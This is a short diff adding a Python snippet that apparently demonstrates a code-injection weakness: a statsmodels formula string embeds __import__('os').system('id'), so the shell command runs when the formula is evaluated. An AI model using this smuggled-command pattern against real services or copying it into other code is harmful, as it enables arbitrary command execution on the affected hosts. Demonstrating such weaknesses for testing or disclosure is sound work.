@@ -1,0 +1,4 @@
+# A formula is evaluated as Python.
+import statsmodels.formula.api as smf
+
+smf.ols("y ~ __import__('os').system('id')", data={"y": [1]})
